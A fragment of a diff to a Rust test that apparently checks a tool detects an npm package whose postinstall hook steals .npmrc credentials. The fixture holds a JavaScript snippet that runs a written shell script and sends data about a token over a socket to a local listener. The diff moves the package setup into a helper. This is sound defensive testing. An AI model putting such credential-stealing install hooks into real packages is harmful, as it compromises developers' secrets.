@@ -25,17 +25,7 @@ fn npm_postinstall_stealing_npmrc_and_calling_out_is_found_in_its_step() {
          fs.writeFileSync(d+'/run.sh','#!/bin/sh\\nexit 0\\n',{{mode:0o755}});cp.execFileSync(d+'/run.sh');\
          const s=net.connect({port},'127.0.0.1',()=>{{s.end(String(t.length))}});s.on('error',()=>{{}});"
     );
-    let tgz = npm_package(
-        runner.dir.path(),
-        "evil-pkg",
-        r#""postinstall":"node steal.js""#,
-        &[("steal.js", &steal)],
-    );
-    std::fs::write(
-        runner.workspace.join("package.json"),
-        r#"{"name":"app","version":"1.0.0"}"#,
-    )
-    .unwrap();
+    let tgz = runner.evil_npm_package(&steal);
     runner.run_job(&[(
         "__run",
         &format!(
